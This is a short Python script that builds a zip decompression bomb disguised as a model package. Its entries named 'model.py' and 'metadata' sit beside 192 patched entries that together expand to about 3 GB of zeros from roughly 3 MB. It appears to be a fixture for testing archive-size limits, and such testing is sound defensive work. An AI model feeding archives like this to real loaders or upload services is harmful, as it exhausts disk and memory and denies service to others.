"""3 GB of zeros in 3 MB: one piece of 16 MB, compressed once."""

import zipfile
import zlib


def make(path):
    zeros = bytes(16 << 20)
    deflated, checksum = zlib.compress(zeros, wbits=-15), zlib.crc32(zeros)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model.py", "")
        archive.writestr("metadata", "")
        for number in range(192):
            archive.writestr(f"zeros{number}", deflated)
            entry = archive.getinfo(f"zeros{number}")
            entry.compress_type, entry.file_size, entry.CRC = zipfile.ZIP_DEFLATED, len(zeros), checksum
